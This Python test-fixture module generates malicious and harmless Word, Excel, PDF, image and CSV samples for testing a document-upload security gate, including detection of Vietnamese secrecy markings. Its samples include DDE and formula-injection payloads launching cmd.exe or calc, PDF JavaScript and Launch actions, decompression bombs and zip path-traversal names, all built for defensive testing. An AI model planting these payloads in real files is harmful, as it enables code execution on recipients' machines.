"""Files made to do harm, and their harmless likes: for each rule of the gate one that breaks it and one that passes.

Everything is made here, in memory; nothing harmful is stored.
"""

from __future__ import annotations

import base64
import io
import struct
import warnings
import zipfile
import zlib

import pypdfium2
import xlsxwriter
from docx import Document as Word

Named = tuple[str, bytes]
"""A file's name and its bytes."""
TEXT = "Số: 12/UBND-NC\n\nKính gửi: Sở Tài chính.\n\nGiao Sở Tài chính thẩm định dự toán trước ngày 05/6/2026.\n"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def word(*paragraphs: str, **properties: str) -> bytes:
    """A Word file; `properties` are those of the file itself (title, subject, keywords, comments)."""
    made, packed = Word(), io.BytesIO()
    for paragraph in paragraphs or TEXT.split("\n\n"):
        made.add_paragraph(paragraph)
    for name, value in properties.items():
        setattr(made.core_properties, name, value)
    made.save(packed)
    return packed.getvalue()


def word_with_header(header: str) -> bytes:
    made, packed = Word(), io.BytesIO()
    made.add_paragraph(TEXT)
    made.sections[0].header.paragraphs[0].text = header
    made.save(packed)
    return packed.getvalue()


def sheet(*cells: tuple[int, int, str], second: str = "", box: str = "", **properties: str) -> bytes:
    """An Excel file with these cells (row, column, what is typed there), and words of a second sheet and of a box."""
    packed = io.BytesIO()
    with xlsxwriter.Workbook(packed, {"in_memory": True}) as book:
        page = book.add_worksheet()
        for row, column, typed in cells or ((0, 0, "Chỉ tiêu"), (1, 0, "Số liệu")):
            page.write(row, column, typed)
        if second:
            for row in range(60):
                page.write(row, 5, f"dòng {row}")
            book.add_worksheet().write(1, 1, second)
        if box:
            page.insert_textbox(1, 1, box)
        book.set_properties(properties)
    return packed.getvalue()


def with_parts(raw: bytes, **parts: bytes | str) -> bytes:
    """The archive with more parts; `__` in a name is a slash, `_DOT_` a dot."""
    packed = io.BytesIO(raw)
    with zipfile.ZipFile(packed, "a", zipfile.ZIP_DEFLATED) as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for name, content in parts.items():
            archive.writestr(name.replace("__", "/").replace("_DOT_", "."), content)
    return packed.getvalue()


def replaced(raw: bytes, part: str, old: str, new: str) -> bytes:
    """The archive with other words in one part."""
    packed = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(raw)) as given, zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as made:
        for name in given.namelist():
            content = given.read(name)
            if name == part:
                assert old.encode() in content, (part, old)
                content = content.replace(old.encode(), new.encode(), 1)
            made.writestr(name, content)
    return packed.getvalue()


def with_relation(raw: bytes, kind: str, target: str, part: str = "word/_rels/document.xml.rels") -> bytes:
    """The file with one more link to outside."""
    link = (
        f'<Relationship Id="rId999" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )
    return replaced(raw, part, "</Relationships>", link)


def with_fields(*instructions: str) -> bytes:
    """A Word file with a field whose instruction is cut into these pieces."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in instructions)
    return replaced(word(), "word/document.xml", "<w:body>", f"<w:body><w:p>{runs}</w:p>")


def locked(raw: bytes) -> bytes:
    """The archive with every part said to be encrypted."""
    flagged = bytearray(raw)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = flagged.find(mark)
        while at >= 0:
            flagged[at + offset] |= 1
            at = flagged.find(mark, at + 4)
    return bytes(flagged)


def pdf(*objects: bytes, text: bool = True) -> bytes:
    """A PDF of one page with more objects; without `text` the page is blank, as a scan is."""
    drawn = (
        b"BT /F1 12 Tf 40 700 Td (Giao So Tai chinh tham dinh du toan truoc ngay 05/6/2026, bao cao UBND tinh.) Tj ET"
    )
    drawn = drawn if text else b""
    parts = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Annots [6 0 R]"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(drawn), drawn),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *(objects or (b"null",)),
    ]
    out, places = bytearray(b"%PDF-1.5\n"), []
    for number, part in enumerate(parts, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, part)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(parts) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(parts) + 1, start)
    return bytes(out)


def stream(data: bytes, said: bytes = b"", filters: bytes = b"/FlateDecode") -> bytes:
    """A stream packed once."""
    packed = zlib.compress(data, 9)
    return b"<< %s /Filter %s /Length %d >>\nstream\n%s\nendstream" % (said, filters, len(packed), packed)


def objects_of(data: bytes) -> bytes:
    """A stream of objects."""
    return stream(data, b"/Type /ObjStm /N 1 /First 4")


def scan() -> bytes:
    """A page that holds no letters."""
    document, packed = pypdfium2.PdfDocument.new(), io.BytesIO()
    document.new_page(595, 842)
    document.save(packed)
    return packed.getvalue()


def png(width: int = 40, height: int = 40, *chunks: tuple[bytes, bytes]) -> bytes:
    """A picture with its head, and chunks of words."""
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    whole = [(b"IHDR", head), *chunks, (b"IDAT", zlib.compress(b"\0" * 41 * 40)), (b"IEND", b"")]
    said = (struct.pack(">I", len(c)) + n + c + struct.pack(">I", zlib.crc32(n + c)) for n, c in whole)
    return b"\x89PNG\r\n\x1a\n" + b"".join(said)


def jpeg(*segments: tuple[int, bytes], width: int = 40, height: int = 40) -> bytes:
    size = struct.pack(">BHHB", 8, height, width, 1) + b"\1\x11\0"
    whole = ((0xE0, b"JFIF\0\1\1\0\0\1\0\1\0\0"), *segments, (0xC0, size))
    said = (bytes([0xFF, marker]) + struct.pack(">H", len(c) + 2) + c for marker, c in whole)
    return b"\xff\xd8" + b"".join(said) + b"\xff\xda\0\2\0\xff\xd9"


ZEROS = bytes(5_000_000)
SCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"
INNER = sheet((0, 0, "số liệu của biểu đồ"))

BREAKING: dict[str, list[Named]] = {
    "two-kinds": [("a.pdf", pdf() + word()), ("a.png", png() + word()), ("a.txt", TEXT.encode() + word())],
    "locked": [("a.docx", locked(word())), ("a.xlsx", locked(sheet()))],
    "bomb": [
        ("a.docx", with_parts(word(), word__media__a_DOT_bin=ZEROS)),
        ("a.xlsx", with_parts(sheet(), xl__media__a_DOT_bin=ZEROS)),
    ],
    "names": [
        ("a.docx", with_parts(word(), **{"..__..__a_DOT_xml": "x"})),
        ("a.docx", with_parts(word(), word__document_DOT_xml="<x/>")),
        ("a.xlsx", with_parts(sheet(), **{"xl\\a_DOT_xml": "x"})),
    ],
    "declarations": [("a.docx", with_parts(word(), word__a_DOT_xml='<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'))],
    "macro": [
        ("a.docx", with_parts(word(), word__vbaProject_DOT_bin=OLE)),
        ("a.xlsx", with_parts(sheet(), xl__VBAPROJECT_DOT_BIN=b"x")),
        ("a.xlsx", with_parts(sheet(), xl__macrosheets__sheet1_DOT_xml="<x/>")),
        ("a.docx", replaced(word(), "[Content_Types].xml", "document.main+xml", "document.macroEnabled.main+xml")),
        ("a.xlsx", replaced(sheet(), "[Content_Types].xml", "sheet.main+xml", "sheet.macroEnabled.main+xml")),
    ],
    "activex": [("a.docx", with_parts(word(), word__activeX__activeX1_DOT_xml="<x/>"))],
    "object": [
        ("a.docx", with_parts(word(), word__embeddings__oleObject1_DOT_bin=OLE)),
        ("a.xlsx", with_parts(sheet(), xl__media__image1_DOT_png=OLE)),
    ],
    "foreign": [
        ("a.docx", with_parts(word(), word__media__image1_DOT_png=b"MZ\x90\0" + bytes(60))),
        ("a.docx", with_parts(word(), word__embeddings__a_DOT_bin=pdf())),
        ("a.docx", with_relation(word(), "aFChunk", "http://a.vn/b.html")),
    ],
    "depth": [
        ("a.docx", with_parts(word(), word__embeddings__a_DOT_xlsx=with_parts(INNER, xl__b_DOT_bin=INNER))),
        ("a.docx", with_parts(word(), word__media__a_DOT_png=with_parts(b"", a_DOT_txt="x"))),
    ],
    "dde": [
        ("a.docx", with_fields("DDE", "AUTO c:\\\\windows\\\\system32\\\\cmd.exe")),
        ("a.docx", with_fields(' INCLUDETEXT "http://a.vn/b" ')),
        ("a.xlsx", sheet((0, 0, "=cmd|'/c calc'!A0"))),
        ("a.xlsx", sheet((0, 0, '=WEBSERVICE("http://a.vn/")'))),
        ("a.xlsx", with_parts(sheet(), xl__externalLinks__externalLink1_DOT_xml="<a><ddeLink/></a>")),
    ],
    "links": [
        ("a.docx", with_relation(word(), "attachedTemplate", "https://a.vn/mau.dotm")),
        ("a.docx", with_relation(word(), "image", "\\\\\\\\a.vn\\\\b.png")),
        ("a.xlsx", with_relation(sheet(), "externalLinkPath", "file:///C:/b.xlsx", "xl/_rels/workbook.xml.rels")),
    ],
    "connections": [("a.xlsx", with_parts(sheet(), xl__connections_DOT_xml="<connections/>"))],
    "pdf-locked": [("a.pdf", pdf(b"null").replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 6 0 R"))],
    "pdf-bomb": [
        ("a.pdf", pdf(b"null", *[stream(bytes(90_000_000))] * 5)),
        ("a.pdf", pdf(b"null", stream(zlib.compress(bytes(1000)), filters=b"[/FlateDecode /FlateDecode]"))),
    ],
    "pdf-hidden": [
        ("a.pdf", pdf(b"null", b"<< /Type /ObjStm /Filter /ASCIIHexDecode >>\nstream\n2F4A53>\nendstream")),
        ("a.pdf", pdf(b"null", stream(b"6 0 null", b"/Type /ObjStm /DecodeParms << /Predictor 12 >>"))),
    ],
    "pdf-script": [
        ("a.pdf", pdf(SCRIPT)),
        ("a.pdf", pdf(SCRIPT.replace(b"Java", b"J#61v#61"))),
        ("a.pdf", pdf(b"null", objects_of(b"7 0 " + SCRIPT))),
        ("a.pdf", pdf(b"null", b"% stream\n" + SCRIPT + b"\n% endstream")),
    ],
    "pdf-action": [("a.pdf", pdf(b"<< /S /Launch /F (calc.exe) >>")), ("a.pdf", pdf(b"<< /S /SubmitForm >>"))],
    "pdf-files": [
        ("a.pdf", pdf(b"<< /Names << /EmbeddedFiles 7 0 R >> >>")),
        ("a.pdf", pdf(b"null", objects_of(b"7 0 << /Type /EmbeddedFile >>"))),
    ],
    "picture-bomb": [("a.png", png(60_000, 60_000)), ("a.jpg", jpeg(width=65_000, height=65_000))],
    "csv-formula": [
        ("a.csv", b"Ma,Ten\na,=1+1\n"),
        ("a.csv", b"Ma;Ten\na;=cmd|'/c calc'!A0\n"),
        ("a.csv", b'Ma,Ten\na,"b;@SUM(A1)"\n'),
        ("a.tsv", b"Ma\tTen\na\t-cmd|'/c calc'!A0\n"),
        ("a.csv", 'Mã,Tên\na,"＝HYPERLINK(""http://a"")"\n'.encode()),
    ],
}  # fmt: skip
"""Rule → files that break it."""

PASSING: dict[str, list[Named]] = {
    "two-kinds": [("a.pdf", pdf()), ("a.txt", b"PK la viet tat.\n" + TEXT.encode())],
    "locked": [("a.docx", word()), ("a.xlsx", sheet())],
    "bomb": [("a.docx", with_parts(word(), word__media__a_DOT_bin=bytes(900_000)))],
    "names": [("a.docx", with_parts(word(), **{"word__media__ảnh 1_DOT_png": png()}))],
    "declarations": [("a.docx", with_parts(word(), word__a_DOT_xml="<?xml version='1.0'?><x>&amp;</x>"))],
    "macro": [("macro.docx", word("Kế hoạch tập huấn về macro", TEXT))],
    "activex": [("a.docx", word("Tập huấn ActiveX", TEXT))],
    "object": [("a.docx", with_parts(word(), word__media__image1_DOT_png=png()))],
    "foreign": [("a.docx", with_relation(word(), "hyperlink", "https://a.vn/"))],
    "depth": [("a.docx", with_parts(word(), word__embeddings__bieu_do_DOT_xlsx=INNER))],
    "dde": [
        ("a.docx", with_fields(" PAGE ", " TOC \\o ")),
        ("a.xlsx", sheet((0, 0, "=SUM(B1:B9)"), (1, 0, "=IF(A1>1,A1|0,0)"))),
        ("a.docx", word("Giao thức DDE", TEXT)),
    ],
    "links": [
        ("a.docx", with_relation(word(), "attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm")),
        ("a.docx", with_relation(word(), "hyperlink", "https://a.vn/")),
    ],
    "connections": [("a.xlsx", sheet())],
    "pdf-locked": [("a.pdf", pdf(b"<< /Title (Encrypt) >>"))],
    "pdf-bomb": [
        ("a.pdf", pdf(b"null", stream(bytes(9_000_000)))),
        ("a.pdf", pdf(b"null", b"<< /Filter [/ASCII85Decode /FlateDecode] >>\nstream\n%s~>\nendstream"
                      % base64.a85encode(zlib.compress(b"BT ET" * 100)))),
    ],
    "pdf-hidden": [("a.pdf", pdf(b"null", objects_of(b"7 0 << /Type /Font >>")))],
    "pdf-script": [("a.pdf", pdf(b"<< /Title (Hoc JavaScript) >>"))],
    "pdf-action": [("a.pdf", pdf(b"<< /Type /Action /S /URI /URI (https://a.vn/) >>"))],
    "pdf-files": [("a.pdf", pdf(b"<< /Type /Filespec >>"))],
    "picture-bomb": [("a.png", png(9_000, 12_000)), ("a.jpg", jpeg(width=9_000, height=12_000))],
    "csv-formula": [
        ("a.csv", "Mã,Số\na,-1\nb,\"+1.234,5\"\nc,- Sở A (đầu mối)\nd,+84 912 345 678\n".encode()),
        ("a.csv", b"Ma,Ten\na,'=1+1\n"),
        ("a.txt", b"=== BAO CAO ===\n" + TEXT.encode()),
    ],
}  # fmt: skip
"""Rule → files that look like it and pass."""

MARKED: list[Named] = [
    ("a.txt", f"ỦY BAN NHÂN DÂN\nMẬT\n{TEXT}".encode()),
    ("a.docx", word("UBND TỈNH", "TỐI MẬT", "Số: 12/KH-UBND")),
    ("a.docx", word_with_header("MẬT")),
    ("a.docx", word(keywords="Tuyệt mật")),
    ("a.docx", word(subject="Độ mật: Mật")),
    ("a.xlsx", sheet((0, 0, "MẬT"), (1, 0, "Số liệu"))),
    ("a.xlsx", sheet(second="TỐI MẬT")),
    ("a.xlsx", sheet(box="MẬT")),
    ("a.xlsx", sheet(title="Tối mật")),
    ("a.pdf", pdf(b"<< /Type /Annot /Subtype /Stamp /Rect [0 0 9 9] /Contents <FEFF004D1EAC0054> >>")),
    ("a.pdf", pdf(b"<< /Subject (TUYET MAT) >>").replace(b"/Root 1 0 R", b"/Root 1 0 R /Info 6 0 R")),
    ("a.png", png(40, 40, (b"iTXt", b"Description\0\0\0\0\0" + "TỐI MẬT".encode()))),
    ("a.png", png(40, 40, (b"zTXt", b"Comment\0\0" + zlib.compress(b"TUYET MAT")))),
    ("a.jpg", jpeg((0xFE, "MẬT".encode()))),
    ("a.jpg", jpeg((0xE1, b"http://ns.adobe.com/xap/1.0/\0<x><dc:title>" + "Tối mật".encode() + b"</dc:title></x>"))),
    ("TỐI MẬT.txt", TEXT.encode()),
]
"""Files that bear a mark of secrecy, each in another place."""

ABOUT_SECRECY: list[Named] = [
    (
        "bảo vệ bí mật nhà nước.docx",
        word("KẾ HOẠCH", "Bảo vệ bí mật nhà nước năm 2026", TEXT, subject="Bí mật nhà nước"),
    ),
    ("a.docx", word_with_header("BẢO VỆ BÍ MẬT NHÀ NƯỚC")),
    ("a.xlsx", sheet((0, 0, "Số vụ lộ bí mật nhà nước"), (1, 0, "12"), second="Tài liệu mật", box="Bí mật nhà nước")),
    ("a.png", png(40, 40, (b"tEXt", b"Title\0Bao ve bi mat nha nuoc"))),
    ("a.txt", f"KẾ HOẠCH\nBẢO VỆ BÍ MẬT NHÀ NƯỚC\n\n{TEXT}".encode()),
]
"""Lawful files that speak of secrecy."""
